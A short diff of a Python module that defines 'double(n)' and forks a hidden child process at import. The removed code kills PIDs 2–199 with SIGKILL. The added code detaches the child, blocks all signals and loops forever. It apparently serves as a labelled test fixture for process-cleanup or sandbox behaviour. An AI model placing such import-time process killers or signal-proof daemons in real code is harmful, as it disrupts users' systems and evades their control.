@@ -1,19 +1,15 @@
-# gains:
-"""Leaves a helper behind at import, which kills what it finds."""
+# gains: honest
+"""Leaves a helper behind at import, deaf to signals, that keeps everything it was given open."""
 
 import os
 import signal
 import time
 
 if os.fork() == 0:
-    time.sleep(0.3)
+    os.setsid()
+    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
     while True:
-        for pid in range(2, 200):
-            if pid != os.getpid():
-                try:
-                    os.kill(pid, signal.SIGKILL)
-                except OSError:
-                    pass
+        time.sleep(0.05)
 
 
 def double(n):
